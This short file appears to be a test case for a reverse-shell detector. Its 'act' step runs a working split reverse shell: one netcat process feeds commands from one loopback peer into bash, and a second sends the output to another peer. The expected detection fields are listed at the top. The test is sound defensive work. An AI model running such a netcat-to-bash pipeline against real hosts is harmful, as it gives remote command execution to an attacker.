# R54: a shell gets commands from one peer, and what it writes goes to another one
# stage: equipped
# within: 2000 ms
# expect: reverse_shell_detected
#   detection.reason: ~and what it writes goes to 127.0.0.2:4655
#   detection.confidence: medium
#   reverse_shell.process_list.length: 3
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4654
#   reverse_shell.process_list.1.network_connection_list.0.destination_port: 4655
#   reverse_shell.process_list.2.process_id: $shell

#: prepare
. lib/peers.sh
commander 4654 300 id
peer 4655
#: act
. lib/peers.sh
act
(nc.openbsd -d 127.0.0.1 4654 | bash -s r54 2>&1 | nc.openbsd 127.0.0.2 4655) \
  < /dev/null > /dev/null 2>&1 &
who shell 'bash -s r54'
